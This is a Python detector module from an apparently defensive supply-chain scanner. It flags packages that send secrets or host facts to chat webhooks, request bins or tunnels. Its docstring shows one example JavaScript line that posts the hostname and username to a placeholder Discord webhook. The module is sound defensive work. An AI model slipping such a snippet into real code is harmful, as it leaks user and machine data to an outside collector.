"""Something is sent to a place where anybody can collect it without a name.

*What it does*

Looks at the addresses that are sent to, put together from whatever pieces: webhooks of chats, bots of messengers,
request bins, tunnels, hosts for tests that answer out of band. On installation that is told by itself; in code that
runs later only where secrets or facts about the machine go over the network in the same file.

*Why it matters*

Such places need no server and no name, so thieves use them. An honest library is told by its user where to send; it
brings no such address with it.

*Example*

    const os = require("os");
    fetch("https://discord.com/api/webhooks/0000/example-invalid", {
      method: "POST",
      body: JSON.stringify({ content: os.hostname() + os.userInfo().username }),
    });
"""

from __future__ import annotations

from collections.abc import Iterator

from assay.detectors.source._acts import Weight, acts, first_of_each_file, when
from assay.detectors.source._flows import runs_on_install
from assay.javascript.alarms import COLLECTOR
from assay.model.finding import Finding, finding
from assay.model.rule import Concern, Rule, Severity
from assay.model.source import BehaviourKind
from assay.model.subject import Subject

RULE = Rule(
    id="messenger-exfiltration",
    title="Sends to a chat webhook, request bin or tunnel",
    severity=Severity.HIGH,
    concern=Concern.MALICE,
    advice="Do not install or run it. Find out what was sent, and replace it if it was secret.",
    techniques=("T1567", "T1102", "T1041"),
)
_WEIGHT = Weight(on_install=Severity.HIGH, when_used=Severity.HIGH, by_command=Severity.MEDIUM)
_KINDS = frozenset({BehaviourKind.NETWORK, BehaviourKind.PROCESS})
_SECRETS = frozenset(
    {
        BehaviourKind.ENVIRONMENT_DUMP,
        BehaviourKind.ENVIRONMENT_READ,
        BehaviourKind.CREDENTIAL_READ,
        BehaviourKind.HOST_FACTS,
    }
)


def detect(subject: Subject) -> Iterator[Finding]:
    """One finding for each file that sends there."""
    for act in first_of_each_file(acts(subject, _KINDS, COLLECTOR)):
        sent = {flow.source.detail for flow in act.file.flows if flow.source.kind in _SECRETS}
        if not sent and not runs_on_install(act.file):
            continue
        severity, confidence = _WEIGHT.of(act.file)
        what = ", ".join(sorted(sent)[:3]) or "something"
        yield finding(
            RULE,
            f"{subject.ref} sends {what} to {act.matched} {when(act.file)}",
            act.evidence(f"{act.behaviour.detail} sends to {act.matched}"),
            severity=severity,
            confidence=confidence,
        )
